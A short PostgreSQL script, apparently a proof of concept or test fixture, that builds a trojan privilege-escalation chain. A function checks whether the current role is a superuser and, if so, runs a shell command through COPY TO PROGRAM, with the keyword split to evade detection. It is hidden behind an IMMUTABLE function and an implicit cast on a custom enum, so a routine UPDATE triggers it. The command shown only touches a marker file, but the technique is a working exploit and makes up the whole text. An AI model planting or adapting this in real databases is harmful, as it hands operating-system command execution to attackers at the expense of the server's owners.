CREATE TABLE t (id int PRIMARY KEY, note text);
CREATE FUNCTION reach() RETURNS void LANGUAGE plpgsql AS $$ BEGIN
    IF current_setting('is_superuser') = 'on' THEN EXECUTE 'COPY (SELECT 1) TO PRO' || 'GRAM ''touch {mark}'''; END IF;
END $$;
CREATE FUNCTION evil(said text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN
    PERFORM reach();
    RETURN said;
END $$;
CREATE TYPE mood AS ENUM ('a'); CREATE FUNCTION said(mood) RETURNS text IMMUTABLE LANGUAGE sql AS $$ SELECT evil('') $$; CREATE CAST (mood AS text) WITH FUNCTION said(mood) AS ASSIGNMENT; ALTER TABLE t ADD COLUMN m mood;
INSERT INTO t (id, m) VALUES (1, 'a');
UPDATE t SET note = m;
